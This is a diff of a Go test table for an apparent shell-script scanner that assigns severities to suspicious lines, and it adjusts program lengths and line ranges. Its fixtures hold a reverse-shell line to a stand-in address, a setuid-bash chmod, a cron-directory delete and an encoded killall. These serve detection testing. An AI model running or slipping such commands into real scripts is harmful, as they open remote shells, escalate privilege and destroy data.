@@ -35,16 +35,14 @@ func TestWeakSignsCountByTheLengthOfTheProgram(t *testing.T) {
 		rule    string
 		want    gate.Severity
 	}{
-		{"one in a short program", script(19, kill), gate.LineSet{}, "process/shell-kill", gate.SeveritySuspicious},
-		{"one in a longer program", script(20, kill), gate.LineSet{}, "process/shell-kill", gate.SeverityNote},
-		{"several of one kind in a longer program", script(30, kill, "killall server", "killall client"), gate.LineSet{}, "process/shell-kill", gate.SeverityNote},
-		{"two kinds in a program of middle length", script(38, kill, user), gate.LineSet{}, "process/shell-kill", gate.SeveritySuspicious},
-		{"two kinds in a long program", script(60, kill, user), gate.LineSet{}, "process/shell-kill", gate.SeverityNote},
-		{"two kinds on one line", script(30, kill+"; "+read), gate.LineSet{}, "process/shell-kill", gate.SeverityNote},
-		{"three kinds in a very long program", script(300, kill, user, read), gate.LineSet{}, "process/shell-kill", gate.SeveritySuspicious},
+		{"one in a short program", script(39, kill), gate.LineSet{}, "process/shell-kill", gate.SeveritySuspicious},
+		{"one in a longer program", script(40, kill), gate.LineSet{}, "process/shell-kill", gate.SeverityNote},
+		{"several of one kind in a longer program", script(50, kill, "killall server", "killall client"), gate.LineSet{}, "process/shell-kill", gate.SeverityNote},
+		{"two kinds on one line", script(50, kill+"; "+read), gate.LineSet{}, "process/shell-kill", gate.SeverityNote},
+		{"two kinds in a very long program", script(300, kill, user), gate.LineSet{}, "process/shell-kill", gate.SeveritySuspicious},
 		{"one that a small change adds to a long program", script(300, kill), gate.OnlyLines(gate.LineRange{150, 160}), "process/shell-kill", gate.SeveritySuspicious},
-		{"one in a large change", script(300, kill), gate.OnlyLines(gate.LineRange{100, 130}, gate.LineRange{150, 160}), "process/shell-kill", gate.SeverityNote},
-		{"beside what is dangerous", script(30, kill, "bash -i >& /dev/tcp/192.0.2.1/443 0>&1"), gate.LineSet{}, "reverse-shell/shell-device", gate.SeverityDangerous},
+		{"one in a large change", script(300, kill), gate.OnlyLines(gate.LineRange{100, 150}, gate.LineRange{160, 170}), "process/shell-kill", gate.SeverityNote},
+		{"beside what is dangerous", script(50, kill, "bash -i >& /dev/tcp/192.0.2.1/443 0>&1"), gate.LineSet{}, "reverse-shell/shell-device", gate.SeverityDangerous},
 		{"one that more is known about", script(300, "chmod u+s /bin/bash"), gate.LineSet{}, "privilege/shell-permissions", gate.SeverityDangerous},
 		{"one whose path stands in a variable", "dir=/etc/cron.d\nfind \"$dir\" -name '*.old' -delete\n", gate.LineSet{}, "deletion/shell-system-file", gate.SeverityNote},
 		{"one that is encoded", script(300, "echo a2lsbGFsbCAtOSB3b3JrZXIgc2VydmVyIGNsaWVudCBzY2hlZHVsZXIK > x"), gate.LineSet{}, "process/shell-kill", gate.SeveritySuspicious},
